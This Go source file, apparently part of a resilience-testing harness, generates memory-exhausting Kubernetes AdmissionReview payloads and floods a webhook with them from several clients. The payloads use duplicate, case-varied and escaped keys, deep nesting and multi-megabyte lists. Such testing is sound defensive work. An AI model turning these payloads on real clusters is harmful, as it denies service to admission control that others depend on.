package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// The webhook shapes are AdmissionReviews the API server could send (any
// JSON) whose decode costs memory: repeated keys, keys that differ only in
// case or escapes, deep nesting, huge lists. One to four callers post
// them back to back.

// maxBody is the most bytes a body is drawn with: a little over the
// webhook's 6 MiB cap, so some are refused by size.
const maxBody = 6<<20 + 256<<10

// webhookFlood is every webhook shape's parameters: the body is built
// once from them.
type webhookFlood struct {
	shape   string // dup-keys, nesting, huge-list
	keys    string // dup-keys: same, case, escaped
	field   string // where the repeated key, the nesting or the list is
	object  string // Pod or Deployment
	size    int    // bytes of the body, about
	copies  int    // dup-keys: copies of the key
	arrays  bool   // nesting: [[[...]]] instead of {"a":{"a":...}}
	callers int
}

func drawWebhook(r *rand.Rand, shape string, fields ...string) webhookFlood {
	return webhookFlood{shape: shape, field: pick(r, fields...), object: pick(r, "Pod", "Pod", "Deployment"),
		size: between(r, 64<<10, maxBody), callers: between(r, 1, 4)}
}

func drawWebhookDupKeys(r *rand.Rand) params {
	p := drawWebhook(r, "dup-keys", "options", "searches", "nameservers", "annotations", "nodeSelector", "dnsConfig", "spec", "object", "request")
	p.keys, p.copies = pick(r, "same", "case", "escaped"), pick(r, 2, 2, 3, 4, 6)
	return p
}

func drawWebhookNesting(r *rand.Rand) params {
	p := drawWebhook(r, "nesting", "spec", "metadata", "dnsConfig", "option", "request", "container")
	p.arrays = r.IntN(2) == 0
	return p
}

func drawWebhookHugeList(r *rand.Rand) params {
	return drawWebhook(r, "huge-list", "options", "searches", "nameservers", "annotations", "nodeSelector", "containers", "env", "hostAliases", "tolerations", "volumes")
}

func (p webhookFlood) String() string {
	s := fmt.Sprintf("%s %s in %s, %d KiB bodies, %d callers", p.object, p.shape, p.field, p.size>>10, p.callers)
	switch p.shape {
	case "dup-keys":
		s += fmt.Sprintf(", %d copies, keys %s", p.copies, p.keys)
	case "nesting":
		s += fmt.Sprintf(", arrays %v", p.arrays)
	}
	return s
}

func (p webhookFlood) run(ctx context.Context, e *env, a *attack) {
	body := p.body(a.rand(0))
	tokens := pace(ctx, 50)
	var wg sync.WaitGroup
	for i := range p.callers {
		client := sourceClient(e, a.from[i%len(a.from)].String())
		wg.Go(func() {
			defer client.CloseIdleConnections()
			for take(ctx, tokens) {
				code, err := post(ctx, client, e.webhook.url, body)
				if err != nil {
					a.st.failed.Add(1)
					if ctx.Err() == nil {
						a.st.outcome("error")
					}
					continue
				}
				a.st.sent.Add(1)
				a.st.outcome(fmt.Sprint(code))
			}
		})
	}
	wg.Wait()
}

// sourceClient is an HTTPS client of the webhook dialing from src, over
// HTTP/2 as the API server.
func sourceClient(e *env, src string) *http.Client {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 5 * time.Second}
	return &http.Client{Timeout: 15 * time.Second, Transport: &http.Transport{TLSClientConfig: e.webhook.tls.Clone(),
		DialContext: d.DialContext, ForceAttemptHTTP2: true}}
}

// post sends body to url and returns the status.
func post(ctx context.Context, c *http.Client, url string, body []byte) (int, error) {
	code, _, err := postRead(ctx, c, url, body)
	return code, err
}

// postRead sends body to url and returns the status and the answer (its
// first MiB).
func postRead(ctx context.Context, c *http.Client, url string, body []byte) (int, []byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return 0, nil, err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := c.Do(req)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	answer, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	return resp.StatusCode, answer, err
}

// review is the JSON of an AdmissionReview of a CREATE of kind with
// members added: each extra is inserted where its key says, before the
// member it may repeat (encoding/json keeps the last).
type review struct {
	kind                                  string
	top, request, object, meta, spec, dns string
}

func (v review) JSON() []byte {
	spec := `"containers":[{"name":"app","image":"registry.example/app:1.0"}]` + v.spec
	if v.dns != "" {
		spec += `,"dnsConfig":{"nameservers":["1.1.1.1"]` + v.dns + `}`
	}
	object := `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"attack","namespace":"tenant"` + v.meta + `}` + v.object + `,"spec":{` + spec + `}}`
	gvr := `"kind":{"group":"","version":"v1","kind":"Pod"},"resource":{"group":"","version":"v1","resource":"pods"}`
	if v.kind == "Deployment" {
		object = `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"attack","namespace":"tenant"` + v.meta + `}` + v.object +
			`,"spec":{"selector":{"matchLabels":{"app":"a"}},"template":{"metadata":{"labels":{"app":"a"}},"spec":{` + spec + `}}}}`
		gvr = `"kind":{"group":"apps","version":"v1","kind":"Deployment"},"resource":{"group":"apps","version":"v1","resource":"deployments"}`
	}
	request := `{"uid":"attack-0",` + gvr + `,"name":"attack","namespace":"tenant","operation":"CREATE"` + v.request + `,"object":` + object + `}`
	return []byte(`{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview"` + v.top + `,"request":` + request + `}`)
}

// body builds the review of p.
func (p webhookFlood) body(r *rand.Rand) []byte {
	v := review{kind: p.object}
	switch p.shape {
	case "dup-keys":
		p.dupKeys(r, &v)
	case "nesting":
		p.nesting(&v)
	default:
		p.hugeList(&v)
	}
	return v.JSON()
}

// list is a JSON array of elements made by elem, about size bytes.
func list(size int, elem func(i int) string) string {
	var b strings.Builder
	b.WriteByte('[')
	for i := 0; b.Len() < size; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(elem(i))
	}
	b.WriteByte(']')
	return b.String()
}

// object is a JSON object of size bytes, about, with keys k0, k1...
func object(size int) string {
	var b strings.Builder
	b.WriteByte('{')
	for i := 0; b.Len() < size; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `"k%d":"v"`, i)
	}
	b.WriteByte('}')
	return b.String()
}

// bigValue is a large value for the member field, about size bytes.
func bigValue(field string, size int) string {
	switch field {
	case "options":
		return list(size, func(int) string { return "{}" })
	case "searches":
		return list(size, func(i int) string { return fmt.Sprintf(`"s%d.example"`, i) })
	case "nameservers":
		return list(size, func(i int) string { return fmt.Sprintf(`"10.0.%d.%d"`, i>>8&255, i&255) })
	case "annotations", "nodeSelector":
		return object(size)
	case "dnsConfig":
		return `{"options":` + list(size, func(int) string { return "{}" }) + `}`
	case "spec":
		return `{"dnsConfig":{"searches":` + bigValue("searches", size) + `}}`
	case "object":
		return `{"spec":{"dnsConfig":{"options":` + list(size, func(int) string { return "{}" }) + `}}}`
	}
	return `{"object":{"metadata":{"annotations":` + object(size) + `}}}` // request
}

// key is name as a repeated copy spells it: the same, in another case, or
// with letters as \u escapes.
func key(r *rand.Rand, name, how string) string {
	b := []byte(name)
	switch how {
	case "case":
		for i, c := range b {
			if r.IntN(2) == 0 && c >= 'a' && c <= 'z' {
				b[i] = c - 'a' + 'A'
			} else if c >= 'A' && c <= 'Z' && r.IntN(2) == 0 {
				b[i] = c - 'A' + 'a'
			}
		}
	case "escaped":
		var s strings.Builder
		for _, c := range b {
			if r.IntN(2) == 0 {
				fmt.Fprintf(&s, `\u%04x`, c)
			} else {
				s.WriteByte(c)
			}
		}
		return s.String()
	}
	return string(b)
}

// dupKeys repeats p.field copies-1 times with a large value before its
// last, small copy.
func (p webhookFlood) dupKeys(r *rand.Rand, v *review) {
	var b strings.Builder
	each := p.size / (p.copies - 1)
	for range p.copies - 1 {
		fmt.Fprintf(&b, `,"%s":%s`, key(r, p.field, p.keys), bigValue(p.field, each))
	}
	extra := b.String()
	switch p.field {
	case "options", "searches", "nameservers":
		v.dns = extra + fmt.Sprintf(`,"%s":[]`, p.field)
	case "annotations":
		v.meta = extra + `,"annotations":{}`
	case "nodeSelector", "dnsConfig":
		v.spec = extra + fmt.Sprintf(`,"%s":{}`, p.field)
	case "spec":
		v.object = extra // the real spec comes after
	case "object":
		v.request = extra
	default:
		v.top = extra
	}
}

// nesting puts a value nested as deep as the body size allows under an
// unknown member of p.field.
func (p webhookFlood) nesting(v *review) {
	depth := p.size / 6
	open, close, leaf := `{"a":`, `}`, `1`
	if p.arrays {
		depth, open, close, leaf = p.size/2, `[`, `]`, ``
	}
	nest := `,"x":` + strings.Repeat(open, depth) + leaf + strings.Repeat(close, depth)
	switch p.field {
	case "spec":
		v.spec = nest
	case "metadata":
		v.meta = nest
	case "dnsConfig":
		v.dns = nest
	case "option":
		v.dns = `,"options":[{"name":"ndots","value":"2"` + nest + `}]`
	case "container":
		v.spec = `,"initContainers":[{"name":"init","image":"i"` + nest + `}]`
	default:
		v.request = nest
	}
}

// hugeList makes p.field a list (or map) of p.size bytes.
func (p webhookFlood) hugeList(v *review) {
	elem := map[string]func(i int) string{
		"containers":  func(i int) string { return fmt.Sprintf(`{"name":"c%d","image":"i"}`, i) },
		"hostAliases": func(i int) string { return fmt.Sprintf(`{"ip":"10.0.0.1","hostnames":["h%d"]}`, i) },
		"tolerations": func(i int) string { return fmt.Sprintf(`{"key":"k%d","operator":"Exists"}`, i) },
		"volumes":     func(i int) string { return fmt.Sprintf(`{"name":"v%d","emptyDir":{}}`, i) },
	}
	switch p.field {
	case "options", "searches", "nameservers":
		v.dns = fmt.Sprintf(`,"%s":%s`, p.field, bigValue(p.field, p.size))
	case "annotations":
		v.meta = `,"annotations":` + object(p.size)
	case "nodeSelector":
		v.spec = `,"nodeSelector":` + object(p.size)
	case "env":
		v.spec = `,"initContainers":[{"name":"init","image":"i","env":` + list(p.size, func(i int) string { return fmt.Sprintf(`{"name":"E%d","value":"v"}`, i) }) + `}]`
	default:
		v.spec = fmt.Sprintf(`,"%s":%s`, p.field, list(p.size, elem[p.field]))
	}
}
